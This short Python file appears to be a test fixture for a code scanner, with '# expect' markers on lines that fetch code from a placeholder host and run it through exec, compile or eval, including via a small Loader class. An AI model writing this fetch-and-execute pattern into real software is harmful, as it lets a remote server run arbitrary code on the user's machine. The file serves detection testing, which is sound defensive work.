import requests
import urllib.request
from urllib.request import urlopen

exec(requests.get("https://example.com/stage").text)  # expect


def fetch(host):
    return urlopen("https://" + host + "/stage").read().decode()


code = compile(fetch("example.com"), "<stage>", "exec")
exec(code, {})  # expect

answer = urllib.request.urlopen("https://example.com/expression").read()
value = eval(answer)  # expect


class Loader:
    def __init__(self):
        self.parts = []

    def load(self):
        self.parts.append(requests.get("https://example.com/part").json()["code"])
        exec("\n".join(self.parts))  # expect


Loader().load()
